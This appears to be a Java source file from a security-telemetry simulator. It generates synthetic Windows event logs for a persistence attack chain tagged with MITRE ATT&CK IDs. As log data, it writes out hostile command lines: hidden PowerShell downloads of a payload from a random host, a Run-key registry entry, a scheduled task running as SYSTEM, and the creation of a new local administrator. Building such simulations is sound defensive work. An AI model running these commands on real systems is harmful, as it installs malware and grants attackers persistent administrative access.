package dev.vigil.simulate;

import java.util.ArrayList;
import java.util.List;

/**
 * A payload dropped in the user's profile, then one to three of: a Run key (reg add, Sysmon 13), a scheduled task
 * (schtasks /create, 4698) and a new local administrator (net user /add, 4720, net localgroup, 4732).
 */
final class Persistence implements AttackChain {

    @Override
    public SimulationSummary.Attack plant(Context ctx, Rng rng, String attackId, long at) {
        Account a = AttackChain.victim(ctx, rng);
        if (a == null) {
            return null;
        }
        Host h = a.home();
        Steps steps = new Steps(attackId, AttackKind.PERSISTENCE);
        String user = ctx.user(a);
        String name = rng.pick("OneDriveUpdate", "MicrosoftEdgeUpdateCore", "WindowsDefenderHelper", "SecurityHealth",
                rng.alpha(rng.between(5, 9)), "AdobeSync", "UpdaterSvc");
        String payload = "C:\\Users\\" + a.name() + "\\AppData\\" + rng.pick("Roaming", "Local") + "\\" + name + "\\"
                + name.toLowerCase() + rng.pick(".exe", ".exe", ".dll");
        Proc ps = Proc.start(rng, h, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                rng.pick("powershell.exe -nop -w hidden -c \"iwr http://" + rng.publicIp() + "/" + rng.alpha(4) + " -OutFile " + payload + "\"",
                        "powershell -ep bypass -c \"(New-Object Net.WebClient).DownloadFile('https://" + rng.alpha(8) + ".com/u','" + payload + "')\""),
                user, "Medium", "C:\\Users\\" + a.name() + "\\");
        Timeline.Step drop = steps.next("T1105", "command-and-control");
        ctx.win().processCreate(ctx.tl(), at, drop, ps, ctx.explorer(a));
        ctx.win().fileCreate(ctx.tl(), at + rng.between(800_000, 6_000_000), drop, ps, payload);
        List<Integer> methods = new ArrayList<>(List.of(0, 1, 2));
        int count = rng.between(1, 3);
        long t = at + rng.between(8_000_000, 90_000_000);
        Proc cmd = Proc.start(rng, h, "C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" ", user, "High",
                "C:\\Windows\\system32\\");
        ctx.win().processCreate(ctx.tl(), t - rng.between(500_000, 5_000_000), drop, cmd, ctx.explorer(a));
        for (int i = 0; i < count; i++) {
            int m = methods.remove(rng.between(0, methods.size() - 1));
            switch (m) {
                case 0 -> {
                    Timeline.Step s = steps.next("T1547.001", "persistence");
                    String hive = rng.chance(0.7) ? "HKCU" : "HKLM";
                    Proc reg = Proc.start(rng, h, "C:\\Windows\\System32\\reg.exe", "reg add " + hive
                            + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v " + name + " /t REG_SZ /d \"" + payload + "\" /f",
                            user, "High", cmd.cwd());
                    ctx.win().processCreate(ctx.tl(), t, s, reg, cmd);
                    ctx.win().registrySet(ctx.tl(), t + rng.between(20_000, 200_000), s, reg, (hive.equals("HKCU")
                            ? "HKU\\" + a.sid() : "HKLM") + "\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\" + name, payload);
                }
                case 1 -> {
                    Timeline.Step s = steps.next("T1053.005", "persistence");
                    String trigger = rng.pick("/sc onlogon", "/sc minute /mo " + rng.between(5, 60), "/sc daily /st "
                            + Ts.pad(rng.between(0, 23), 2) + ":" + Ts.pad(rng.between(0, 59), 2), "/sc onstart");
                    Proc st = Proc.start(rng, h, "C:\\Windows\\System32\\schtasks.exe", "schtasks /create /tn \"" + name
                            + "\" /tr \"" + payload + "\" " + trigger + rng.pick(" /ru SYSTEM /f", " /f", " /rl highest /f"),
                            user, "High", cmd.cwd());
                    ctx.win().processCreate(ctx.tl(), t, s, st, cmd);
                    ctx.win().taskCreated(ctx.tl(), t + rng.between(50_000, 500_000), s, h, a.name(), name, payload, "");
                }
                default -> {
                    Timeline.Step s = steps.next("T1136.001", "persistence");
                    String newUser = rng.pick("support", "helpdesk", "admin", "sql", "backup") + rng.pick("", "_svc", "1", "$");
                    String pw = rng.base62(rng.between(9, 14)) + "!";
                    Proc net = Proc.start(rng, h, "C:\\Windows\\System32\\net.exe", "net user " + newUser + " " + pw + " /add",
                            user, "High", cmd.cwd());
                    ctx.win().processCreate(ctx.tl(), t, s, net, cmd);
                    ctx.win().processCreate(ctx.tl(), t + rng.between(5_000, 40_000), s, Proc.start(rng, h,
                            "C:\\Windows\\System32\\net1.exe", "C:\\Windows\\system32\\net1 user " + newUser + " " + pw + " /add",
                            user, "High", cmd.cwd()), net);
                    ctx.win().userCreated(ctx.tl(), t + rng.between(50_000, 300_000), s, h, a.name(), newUser);
                    Timeline.Step g = steps.next("T1098", "persistence");
                    long t2 = t + rng.between(3_000_000, 40_000_000);
                    Proc lg = Proc.start(rng, h, "C:\\Windows\\System32\\net.exe", "net localgroup " + rng.pick("administrators",
                            "Administrators", "\"Administrators\"") + " " + newUser + " /add", user, "High", cmd.cwd());
                    ctx.win().processCreate(ctx.tl(), t2, g, lg, cmd);
                    ctx.win().groupMemberAdded(ctx.tl(), t2 + rng.between(50_000, 300_000), g, h, a.name(), newUser, "Administrators");
                }
            }
            t += rng.between(10_000_000, 240_000_000);
        }
        return new SimulationSummary.Attack(attackId, AttackKind.PERSISTENCE, AttackChain.instant(at), h.name(), a.name());
    }
}
